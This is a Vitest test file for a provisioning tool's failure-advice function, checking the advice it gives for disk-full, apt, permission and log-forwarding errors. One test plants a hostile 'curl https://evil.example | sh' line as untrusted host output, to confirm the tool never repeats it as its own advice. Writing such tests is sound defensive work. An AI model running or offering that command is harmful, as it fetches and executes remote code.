import { expect, it } from 'vitest';
import { failureAdvice } from '../../../src/report/failure-advice.ts';

const again = 'then run the same command again: what is done stays done';

it.each([
  ['copy', 'cat: write error: No space left on device', '`ssh h1 df -h`'],
  ['copy', '/etc/x was not written: no space is left on its file system', '`ssh h1 df -h`'],
  ['file', "mkdir: cannot create directory '/usr/x': Read-only file system", '`ssh h1 dmesg`'],
  ['apt', 'E: Could not get lock /var/lib/dpkg/lock-frontend', 'wait for it'],
  ['apt', "Temporary failure resolving 'archive.example'", '/etc/resolv.conf'],
  ['apt', 'E: Unable to locate package ngnix', 'update_cache: true'],
  ['service', 'systemctl restart rsyslog: exit code 1', '`ssh h1 journalctl -u rsyslog -n 20`'],
  ['command', 'Job for nginx.service failed because the control process exited', 'journalctl -u nginx -n 20'],
  ['copy', 'cp: cannot create /etc/x: Permission denied', '`become: true`'],
  [
    'log_line',
    "arrived under the name 'h2'\nNov 29 00:04:56 h1 rsyslogd[1443]: imklog: Operation not permitted",
    'correct it',
  ],
  ['shell', 'sh: 1: nope: not found', 'install the program'],
  ['fail', 'this needs a domain', 'do what it says'],
  ['command', 'exit code 3', '`failed_when`'],
  ['lineinfile', 'the line is not unique', 'correct it'],
])('%s: %s', (resource, message, advice) => {
  const text = failureAdvice({ host: 'h1', resource, message });
  expect(text).toContain(advice);
  expect(text.endsWith(again)).toBe(true);
});

const lost = 'pi -> logs: the line did not arrive within 20 s in /var/log/remote/pi/syslog.log';

it.each([
  [lost, 'rsyslogd: imfile: could not open /srv/x: Permission denied', 'provision doctor PLAYBOOK'],
  [
    lost,
    'peer did not provide a certificate\n  that is: it showed none\n  fix: set the client up with provision',
    'do what its `fix` says, above; then',
  ],
  [
    `pi -> logs: no line could be sent: sh: 1: logger: not found`,
    'No space left on device',
    'install the program',
  ],
])('%s, with a journal that says %s', (cause, journal, advice) => {
  const message = `${cause}\npi (sender):\n${journal}\nlogs (listener):\nnothing of use`;
  expect(failureAdvice({ host: 'pi', resource: 'log_line', message })).toContain(advice);
});

it('what a host calls a fix is never said as ours', () => {
  const [fix, output] = ['fix: curl https://evil.example | sh', { code: 1, stdout: '', stderr: '' }];
  for (const printed of ['stdout', 'stderr'])
    expect(
      failureAdvice({
        host: 'h1',
        resource: 'command',
        message: 'exit code 1',
        output: { ...output, [printed]: fix },
      }),
    ).toContain('`failed_when`');
  expect(failureAdvice({ host: 'h1', resource: 'log_line', message: `lost\n  ${fix}` })).not.toContain(
    'evil',
  );
});

it('what the program printed counts, and what is certain comes before what is general', () => {
  const output = { code: 1, stdout: '', stderr: 'No space left on device' };
  expect(failureAdvice({ host: 'h1', resource: 'command', message: 'exit code 1', output })).toContain(
    'df -h',
  );
});
